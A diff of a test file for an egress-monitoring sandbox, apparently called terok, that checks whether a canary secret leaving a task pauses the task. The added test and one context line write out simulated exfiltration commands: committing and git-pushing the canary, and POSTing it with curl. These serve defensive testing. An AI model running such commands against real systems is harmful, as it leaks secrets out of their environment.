@@ -136,6 +136,16 @@ describe('the canary of a bottle', () => {
     expect(await home.run(['egress', 'resume', TASK])).toMatchObject({ status: 121 });
   });
 
+  test('pauses it when it is pushed', async () => {
+    const push = `${readCanary} >leak; git add -f leak; git commit --quiet -m x; git push origin HEAD`;
+    const running = home.start(['exec', TASK, '--', 'sh', '-c', push]);
+    const ended = new Promise((resolve) => running.once('exit', resolve));
+    await waitUntil(async () => (await status()).status === 'paused', 30_000, 'the pause');
+    expect(JSON.parse(readFileSync(path.join(home.root, 'st/bottles', TASK, 'canary-seen.json'), 'utf8')).host).toBe('gate.terok.internal');
+    expect(await home.run(['egress', 'resume', TASK])).toMatchObject({ status: 0 });
+    expect(await ended).not.toBe(0);
+  });
+
   test('does not keep the work of a task from coming home when the task is stopped', async () => {
     const script = `echo work >work.txt; curl -sS -d "$(${readCanary})" http://${HOST}:${port}/; sleep 600`;
     const running = home.start(['run', path.join(home.root, 'mail'), '--name', 'leaky', '--quiet', '--', 'sh', '-c', script]);
